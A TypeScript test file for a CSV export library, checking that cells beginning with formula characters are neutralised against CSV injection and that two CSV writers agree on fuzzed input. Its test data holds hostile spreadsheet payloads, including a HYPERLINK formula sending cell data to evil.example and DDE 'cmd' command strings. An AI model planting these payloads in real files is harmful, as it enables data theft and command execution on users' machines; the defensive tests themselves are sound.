import { parse } from "csv-parse/sync";
import { describe, expect, it } from "vitest";
import { csvRows, neutralizeCell, stringifyCsv } from "@/lib/csv";

// OWASP "CSV Injection": no cell Sally writes may begin with = + - @ TAB CR LF, since a spreadsheet
// would run it as a formula. A leading ' makes it text. A plain number is not a formula: it stays.
describe("CSV cells are never live formulas", () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?"&A1,"Click")', `'=HYPERLINK("http://evil.example/?"&A1,"Click")`],
    ["+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"],
    ["-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"],
    ["@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"],
    ["\t=1+2", "'\t=1+2"],
    ["\r=1+2", "'\r=1+2"],
    ["\n=1+2", "'\n=1+2"],
    ["-- not a number", "'-- not a number"],
    ["-", "'-"],
    ["+", "'+"],
  ])("prefixes %j", (raw, safe) => {
    expect(neutralizeCell(raw)).toBe(safe);
  });

  it.each(["-3", "+3", "-0.25", "-1e-7", "3", "", "a=b", " =1+2", "'=already text", "plain text", "ünïcode"])("leaves %j as it is", (raw) => {
    expect(neutralizeCell(raw)).toBe(raw);
  });

  it("writes RFC 4180 rows whose cells read back neutralized, numbers untouched", () => {
    const csv = stringifyCsv([
      ["id", "label", "duration_ms", "comment"],
      ["=1+2", "-3", -3, 'He said "=1+2";,=1+2'],
      ["@x", null, 12.5, "line one\nline two"],
    ]);
    const back = parse(csv) as string[][];
    expect(back).toEqual([
      ["id", "label", "duration_ms", "comment"],
      ["'=1+2", "-3", "-3", 'He said "=1+2";,=1+2'],
      ["'@x", "", "12.5", "line one\nline two"],
    ]);
    // OWASP's own example: the separator and quotes inside a cell cannot start a new, live cell
    expect(stringifyCsv([['=1+2";=1+2']])).toBe(`"'=1+2"";=1+2"\n`);
  });
});

// The study exports write their rows with csvRows, csv-stringify's rules written out for text,
// numbers, booleans and nulls: the two must never differ by a byte.
describe("csvRows writes what stringifyCsv writes", () => {
  const AWKWARD = ["a", "Z", " ", ",", '"', "'", "\n", "\r", "\t", "=", "+", "-", "@", "1", "0", ".", "e", "E", "é", "🙂", "\u2028", ";", "|"];

  // a small fixed-seed generator (mulberry32): the same cases on every run
  function random(seed: number): () => number {
    let a = seed;
    return () => {
      a = (a + 0x6d2b79f5) | 0;
      let t = Math.imul(a ^ (a >>> 15), 1 | a);
      t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t;
      return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
    };
  }

  it("on 20,000 rows of random awkward cells (text from quotes, delimiters, CR/LF, formula starts; numbers; booleans; nulls)", () => {
    const next = random(14);
    const cell = (): string | number | boolean | null => {
      const kind = next();
      if (kind < 0.1) return null;
      if (kind < 0.15) return next() < 0.5;
      if (kind < 0.25) return [0, -3, 12.5, -1e-7, 1e21, 2 ** 53, -0.25, NaN, Infinity][Math.floor(next() * 9)]!;
      return Array.from({ length: Math.floor(next() * 7) }, () => AWKWARD[Math.floor(next() * AWKWARD.length)]).join("");
    };
    const rows = Array.from({ length: 20_000 }, () => Array.from({ length: 1 + Math.floor(next() * 5) }, cell));
    expect(csvRows(rows)).toBe(stringifyCsv(rows));
  });

  it.each([[[""]], [["", ""]], [[null]], [["-3", -3, "+3", "-", "@"]], [['=1+2";=1+2', "x\r\ny"]], [[true, false, 0]]])("on %j", (...rows) => {
    expect(csvRows(rows)).toBe(stringifyCsv(rows));
  });
});
